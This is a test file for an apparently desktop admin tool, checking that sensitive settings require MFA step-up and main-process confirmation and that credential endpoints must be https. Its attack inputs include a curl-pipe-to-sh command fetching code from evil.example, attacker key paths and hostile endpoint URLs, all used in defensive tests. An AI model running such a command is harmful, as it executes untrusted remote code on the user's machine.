import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { SETTINGS, type SettingClass, needsStepUp } from '../../shared/settings-schema.js';
import { cli, enrolMfaWithCli } from '../support/cli.js';
import { TestClock } from '../support/clock.js';
import { startCloudflareWorld } from '../support/cloudflare-env.js';
import { type Harness, createHarness } from '../support/harness.js';
import { platformKey, profilePayload, signProfile } from '../support/profile.js';
import { seedCloudflareConnection } from '../support/seed.js';
import { ipc } from '../support/contracts.js';

const tmp = (p: string) => mkdtempSync(join(tmpdir(), p));

/**
 * Every setting with the class it must have. A new setting fails here until it is given one, and
 * a class changed by accident (a trust anchor made a preference) fails here too.
 */
const EXPECTED_CLASSES: Readonly<Record<string, SettingClass>> = {
  ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID: 'identity',
  ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID_US_GOV: 'identity',
  ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID_CN: 'identity',
  ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET: 'secret',
  ALPHASWARM_ADMIN_AWS_ROLE_NAME_PATTERN: 'identity',
  ALPHASWARM_ADMIN_AWS_CFN_TEMPLATE_URL: 'identity',
  ALPHASWARM_ADMIN_AWS_PROFILE: 'identity',
  ALPHASWARM_ADMIN_AWS_STS_ENDPOINT: 'secret-endpoint',
  ALPHASWARM_ADMIN_AWS_IAM_ENDPOINT: 'secret-endpoint',
  ALPHASWARM_ADMIN_AWS_EC2_ENDPOINT: 'secret-endpoint',
  ALPHASWARM_ADMIN_AWS_ORGANIZATIONS_ENDPOINT: 'secret-endpoint',
  ALPHASWARM_ADMIN_AWS_CLOUDFORMATION_ENDPOINT: 'secret-endpoint',
  ALPHASWARM_ADMIN_AZURE_APP_CLIENT_ID: 'identity',
  ALPHASWARM_ADMIN_AZURE_APP_OBJECT_ID: 'identity',
  ALPHASWARM_ADMIN_AZURE_AUDIENCE: 'identity',
  ALPHASWARM_ADMIN_AZURE_CLOUD: 'identity',
  ALPHASWARM_ADMIN_AZURE_REQUIRED_ROLES: 'identity',
  ALPHASWARM_ADMIN_AZURE_AUTHORITY_HOST: 'secret-endpoint',
  ALPHASWARM_ADMIN_AZURE_ARM_ENDPOINT: 'secret-endpoint',
  ALPHASWARM_ADMIN_GCP_WIF_AUDIENCE: 'identity',
  ALPHASWARM_ADMIN_GCP_WIF_SERVICE_ACCOUNT_EMAIL: 'identity',
  ALPHASWARM_ADMIN_GCP_STS_ENDPOINT: 'secret-endpoint',
  ALPHASWARM_ADMIN_GCP_IAMCREDENTIALS_ENDPOINT: 'secret-endpoint',
  ALPHASWARM_ADMIN_GCP_CRM_ENDPOINT: 'secret-endpoint',
  ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE: 'secret-endpoint',
  ALPHASWARM_ADMIN_PLATFORM_URL: 'secret-endpoint',
  ALPHASWARM_ADMIN_DATA_DIR: 'env-only',
  ALPHASWARM_ADMIN_OIDC_ISSUER: 'identity',
  ALPHASWARM_ADMIN_OIDC_TOKEN_COMMAND: 'executable',
  ALPHASWARM_ADMIN_OIDC_SIGNING_KEY_FILE: 'path',
  ALPHASWARM_ADMIN_STEP_UP_TTL_SECONDS: 'security-policy',
  ALPHASWARM_ADMIN_HTTP_TIMEOUT_MS: 'preference',
  ALPHASWARM_ADMIN_PLATFORM_AUDIENCE: 'trust-anchor',
  ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS: 'env-only',
  ALPHASWARM_ADMIN_PLATFORM_BUNDLE_KEY: 'trust-anchor',
  ALPHASWARM_ADMIN_BUNDLE_TTL_HOURS: 'preference',
  ALPHASWARM_ADMIN_EXPORT_DIR: 'path',
  ALPHASWARM_ADMIN_HEALTH_CONCURRENCY: 'preference',
  ALPHASWARM_ADMIN_KEYCHAIN_SERVICE: 'env-only',
  ALPHASWARM_ADMIN_TEST_MODE: 'env-only',
  ALPHASWARM_ADMIN_UPDATE_URL: 'trust-anchor',
  ALPHASWARM_ADMIN_UPDATE_CHANNEL: 'trust-anchor',
  ALPHASWARM_ADMIN_AUTO_UPDATE: 'trust-anchor',
  ALPHASWARM_ADMIN_MANAGED_CONFIG_FILE: 'env-only',
};

describe('24.0 every setting is classified, and the class decides who may change it', () => {
  it.each(SETTINGS.map((s) => [s.name, s] as const))('%s has its expected class', (name, def) => {
    expect(EXPECTED_CLASSES[name], `${name} is new: give it a class here and in docs/SECURITY.md`).toBeDefined();
    expect(def.class).toBe(EXPECTED_CLASSES[name]);
    // A secret is exactly the secret class; only a preference changes without a code.
    expect(def.secret).toBe(def.class === 'secret');
    expect(needsStepUp(def)).toBe(def.class !== 'preference');
  });

  it('the table names no setting that no longer exists', () => {
    expect(Object.keys(EXPECTED_CLASSES).sort()).toEqual(SETTINGS.map((s) => s.name).sort());
  });
});

describe('24.1 the window cannot set a command, a key file, the export folder, the bundle key or a credential endpoint without step-up', () => {
  let h: Harness;
  afterEach(() => h?.close());

  const attacks: readonly [string, string][] = [
    ['ALPHASWARM_ADMIN_OIDC_TOKEN_COMMAND', 'curl -s https://evil.example/x | sh'],
    ['ALPHASWARM_ADMIN_OIDC_SIGNING_KEY_FILE', '/tmp/attacker-key.pem'],
    ['ALPHASWARM_ADMIN_EXPORT_DIR', '/tmp/attacker-drop'],
    ['ALPHASWARM_ADMIN_PLATFORM_BUNDLE_KEY', '{"kty":"OKP","crv":"X25519","x":"attacker"}'],
    ['ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE', 'https://evil.example/client/v4'],
  ];

  it.each(attacks)('%s: refused without a code; nothing written, no confirmation shown', async (name, value) => {
    h = await createHarness();
    await h.enrollMfa();
    await h.stepUp('__platform__'); // even an open step-up window for the platform tenant is not enough
    const e = await h.fails(ipc.settings.set, { name, value });
    expect(e).toMatchObject({ code: 'step_up_required', details: { setting: name } });
    expect(h.services.settings.resolve(name).source).not.toBe('settings file');
    expect(h.prompts).toHaveLength(0);
    // Removing a value that is not there would change nothing: said so, before any code is asked for.
    expect(await h.fails(ipc.settings.unset, { name })).toMatchObject({ code: 'bad_request', message: expect.stringContaining('nothing to remove') });
    expect(h.prompts).toHaveLength(0);
  });

  it('with a code, main shows its own description of the change; declined, nothing is written and the code is not spent', async () => {
    h = await createHarness();
    await h.enrollMfa();
    const name = 'ALPHASWARM_ADMIN_OIDC_TOKEN_COMMAND';
    h.confirmAnswer = false;
    const code = await h.nextCode();
    expect(await h.fails(ipc.settings.set, { name, value: 'evil --now', code })).toMatchObject({ code: 'cancelled' });
    expect(h.prompts).toHaveLength(1);
    expect(h.prompts[0]!.message).toBe('Change Subject-token command?');
    expect(h.prompts[0]!.detail).toContain('a command main runs on this laptop');
    expect(h.prompts[0]!.detail).toContain('New: evil --now');
    expect(h.services.settings.resolve(name).value).toBeUndefined();
    // Confirmed with the same (unspent) code: written, and audited without the code.
    h.confirmAnswer = true;
    await h.ok(ipc.settings.set, { name, value: 'evil --now', code });
    expect(h.services.settings.resolve(name)).toMatchObject({ value: 'evil --now', source: 'settings file' });
    const row = h.services.audit.list({ limit: 1, step: 'settings_change' }).rows[0]!;
    expect(JSON.stringify(row.detail)).not.toContain(code);
    // A code works once.
    expect(await h.fails(ipc.settings.set, { name, value: 'other', code })).toMatchObject({ code: 'mfa_invalid' });
  });

  it('the text of the confirmation is main’s: hostile values are shown with their control and bidi characters visible', async () => {
    h = await createHarness();
    await h.enrollMfa();
    await h.ok(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_EXPORT_DIR', value: '/tmp/a\u202eb', code: await h.nextCode() });
    expect(h.prompts[0]!.detail).toContain('New: /tmp/a\\u{202e}b');
  });

  it('a wrong value is refused before a code is asked for or spent', async () => {
    h = await createHarness();
    await h.enrollMfa();
    const code = await h.nextCode();
    expect(await h.fails(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE', value: 'not a url', code })).toMatchObject({ code: 'config_invalid' });
    expect(h.prompts).toHaveLength(0);
    await h.ok(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE', value: 'https://api.cloudflare.com/client/v4', code });
  });

  it('a transport that cannot show main’s confirmation (the Chromium fallback) cannot change it at all', async () => {
    h = await createHarness();
    await h.enrollMfa();
    const r = await h.services.router.call(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_EXPORT_DIR', value: '/tmp/x', code: await h.nextCode() }, { actor: 'app:test', trusted: true });
    expect(r).toMatchObject({ ok: false, error: { code: 'precondition_failed', hint: expect.stringContaining('settings set ALPHASWARM_ADMIN_EXPORT_DIR VALUE --otp CODE') } });
  });

  it('a preference still changes at once', async () => {
    h = await createHarness();
    await h.ok(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_HEALTH_CONCURRENCY', value: '4' });
    expect(h.prompts).toHaveLength(0);
  });
});

describe("24.1 (role names) an org's own AWS role name is an identity decision too", () => {
  let h: Harness;
  afterEach(() => h?.close());

  it('refused without a code; with one, main shows the change and the code is spent once', async () => {
    h = await createHarness();
    await h.enrollMfa();
    await h.stepUp('acme-corp'); // an open step-up for the org is not enough either
    expect(await h.fails(ipc.settings.setOrgRoleName, { orgId: 'acme-corp', roleName: 'AttackerRole' })).toMatchObject({ code: 'step_up_required' });
    expect(h.services.settings.orgOverrides('acme-corp')).toEqual({});
    expect(h.prompts).toHaveLength(0);
    const code = await h.nextCode();
    h.confirmAnswer = false;
    expect(await h.fails(ipc.settings.setOrgRoleName, { orgId: 'acme-corp', roleName: 'Evil\u202eRole', code })).toMatchObject({ code: 'bad_request' });
    expect(await h.fails(ipc.settings.setOrgRoleName, { orgId: 'acme-corp', roleName: 'AcmeRole', code })).toMatchObject({ code: 'cancelled' });
    expect(h.prompts[0]!.message).toBe('Change the AWS role name of acme-corp?');
    expect(h.prompts[0]!.detail).toContain('Now: alphaswarm-broker-acme-corp [pattern]');
    expect(h.prompts[0]!.detail).toContain('New: AcmeRole');
    h.confirmAnswer = true;
    expect(await h.ok(ipc.settings.setOrgRoleName, { orgId: 'acme-corp', roleName: 'AcmeRole', code })).toMatchObject({ roleName: 'AcmeRole', source: 'settings file' });
    expect(await h.fails(ipc.settings.setOrgRoleName, { orgId: 'acme-corp', roleName: null, code })).toMatchObject({ code: 'mfa_invalid' });
  });

  it('a transport that cannot show main’s confirmation cannot change it', async () => {
    h = await createHarness();
    await h.enrollMfa();
    const r = await h.services.router.call(ipc.settings.setOrgRoleName, { orgId: 'acme-corp', roleName: 'AcmeRole', code: await h.nextCode() }, { actor: 'app:test', trusted: true });
    expect(r).toMatchObject({ ok: false, error: { code: 'precondition_failed', hint: expect.stringContaining('settings role-name acme-corp NAME --otp CODE') } });
  });
});

describe('24.3 an endpoint that receives a credential is https', () => {
  let h: Harness;
  afterEach(() => h?.close());

  it('http:// for the Cloudflare base is refused from the window, and from the environment outside test mode', async () => {
    h = await createHarness();
    await h.enrollMfa();
    expect(await h.fails(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE', value: 'http://127.0.0.1:9/client/v4', code: await h.nextCode() })).toMatchObject({ code: 'config_invalid', message: expect.stringMatching(/https/) });
    h.close();
    // Not test mode: even loopback http from the environment is a problem, and the cloud is refused.
    h = await createHarness({ env: { ALPHASWARM_ADMIN_TEST_MODE: '0', ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE: 'http://127.0.0.1:9/client/v4' } });
    expect(h.services.settings.resolve('ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE').problem).toMatch(/https/);
    expect(() => h.services.settings.optional('ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE')).toThrow(/https/);
    h.close();
    // Test mode allows loopback only: another host over http is still refused.
    h = await createHarness({ env: { ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE: 'http://evil.example/client/v4' } });
    expect(h.services.settings.resolve('ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE').problem).toMatch(/https/);
  });
});

describe('24.4 profile keys are env-only: the file and the window cannot replace the pinned key', () => {
  let h: Harness;
  afterEach(() => h?.close());

  it('settings.json naming the profile keys is ignored, and status says so', async () => {
    const dir = tmp('keys-in-file-');
    writeFileSync(join(dir, 'settings.json'), JSON.stringify({ settings: { ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS: '{"kty":"OKP","crv":"Ed25519","x":"attacker"}', ALPHASWARM_ADMIN_HEALTH_CONCURRENCY: '3' } }));
    h = await createHarness({ dataDir: dir });
    expect(h.services.settings.resolve('ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS')).toMatchObject({ value: undefined, source: 'unset' });
    expect(h.services.settings.resolve('ALPHASWARM_ADMIN_HEALTH_CONCURRENCY').value).toBe('3');
    const status = await h.ok(ipc.settings.status, {});
    expect(status.settingsFileProblem).toMatch(/ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS can only be set in the environment/);
    // Other changes still write (the ignored entry is dropped, not a reason to refuse every write).
    await h.ok(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_HEALTH_CONCURRENCY', value: '5' });
    expect(readFileSync(join(dir, 'settings.json'), 'utf8')).not.toContain('attacker');
  });

  it('settings:set of the profile keys is refused, with a code or without', async () => {
    h = await createHarness();
    await h.enrollMfa();
    expect(await h.fails(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS', value: '{}', code: await h.nextCode() })).toMatchObject({ code: 'bad_request', message: expect.stringMatching(/only be set in the environment/) });
    expect(h.prompts).toHaveLength(0);
  });
});

describe('24.1 (CLI) a protected change takes --otp, and a bad value costs no code', () => {
  it('settings set NAME VALUE --otp CODE', async () => {
    const clock = new TestClock();
    const env = { ALPHASWARM_ADMIN_DATA_DIR: tmp('cli-otp-') };
    const mfa = await enrolMfaWithCli(env, clock);
    const without = await cli(['settings', 'set', 'ALPHASWARM_ADMIN_EXPORT_DIR', '/tmp/exports'], env, clock);
    expect(without.code).not.toBe(0);
    expect(without.stderr).toMatch(/--otp CODE/);
    // A bad value is refused first: the code given is not spent, and works next.
    const code = await mfa.code();
    const bad = await cli(['settings', 'set', 'ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE', 'http://evil.example/client/v4', '--otp', code], env, clock);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/https/);
    const good = await cli(['settings', 'set', 'ALPHASWARM_ADMIN_EXPORT_DIR', '/tmp/exports', '--otp', code], env, clock);
    expect(good.code).toBe(0);
    expect(good.stderr).toContain('New: /tmp/exports');
    expect(good.stdout).toContain('✓ ALPHASWARM_ADMIN_EXPORT_DIR = /tmp/exports [settings file]');
  });
});

describe('24.2 bundles:export gives the window only metadata; main writes the bundle', () => {
  let h: Harness;
  const afterEachStop: (() => Promise<void>)[] = [];
  afterEach(async () => {
    h?.close();
    for (const stop of afterEachStop.splice(0)) await stop();
  });

  it('the answer carries no bundle text, and the file is where main says (its export folder, or the file chosen in main’s dialog)', async () => {
    const world = await startCloudflareWorld();
    afterEachStop.push(() => world.fake.stop());
    h = await createHarness({ env: world.env() });
    seedCloudflareConnection(h, world, 'org-1', 80);
    await h.stepUp('__platform__');
    const out = await h.ok(ipc.bundles.export, { orgId: '__platform__' });
    expect(out).not.toHaveProperty('bundle');
    expect(JSON.stringify(out)).not.toMatch(/eyJ[\w-]+\.[\w-]+\.[\w-]+/); // no compact JWS anywhere in the answer
    expect(out.path.startsWith(join(h.services.packs.exportDir(), 'bundles'))).toBe(true);
    expect(readFileSync(out.path, 'utf8')).toMatch(/^eyJ[\w-]+\.[\w-]+\.[\w-]+\n$/);
    // The old way to ask for the text back is refused, not ignored.
    expect(await h.sendMalformed(ipc.bundles.export, { orgId: '__platform__', save: false })).toMatchObject({ ok: false, error: { code: 'bad_request', message: expect.stringMatching(/save/) } });
    // A transport with its own save dialog: main writes to the chosen file; cancelled, nothing is written.
    const chosen = join(tmp('chosen-'), 'mine.jws');
    const viaDialog = await h.services.router.call(ipc.bundles.export, { orgId: '__platform__' }, { ...h.caller, saveFileAs: () => Promise.resolve(chosen) });
    expect(viaDialog).toMatchObject({ ok: true, value: { path: chosen } });
    expect(readFileSync(chosen, 'utf8')).toMatch(/^eyJ/);
    const cancelled = await h.services.router.call(ipc.bundles.export, { orgId: '__platform__' }, { ...h.caller, saveFileAs: () => Promise.resolve(undefined) });
    expect(cancelled).toMatchObject({ ok: false, error: { code: 'cancelled' } });
  });
});

describe('24.4 (first use) pinning the first platform key is confirmed by main, not by the window', () => {
  let h: Harness;
  afterEach(() => h?.close());

  it('declined in main’s dialog: nothing imported, no key pinned; confirmed: pinned, the dialog naming the fingerprint', async () => {
    h = await createHarness();
    const key = platformKey();
    const text = signProfile(key, profilePayload(Math.floor(h.clock.now() / 1000)));
    h.confirmAnswer = false;
    const code = await h.freshCode();
    expect(await h.fails(ipc.settings.importProfile, { text, acceptFingerprint: key.kid, code })).toMatchObject({ code: 'cancelled', message: expect.stringMatching(/not confirmed, so nothing was changed/) });
    expect((await h.ok(ipc.settings.status, {})).profile).toMatchObject({ state: 'none', trust: { mode: 'none' } });
    expect(h.prompts[0]!.detail).toContain(`Fingerprint: ${key.kid}`);
    h.confirmAnswer = true;
    await h.ok(ipc.settings.importProfile, { text, acceptFingerprint: key.kid, code });
    expect((await h.ok(ipc.settings.status, {})).profile).toMatchObject({ state: 'active', trust: { mode: 'first-use' } });
  });
});
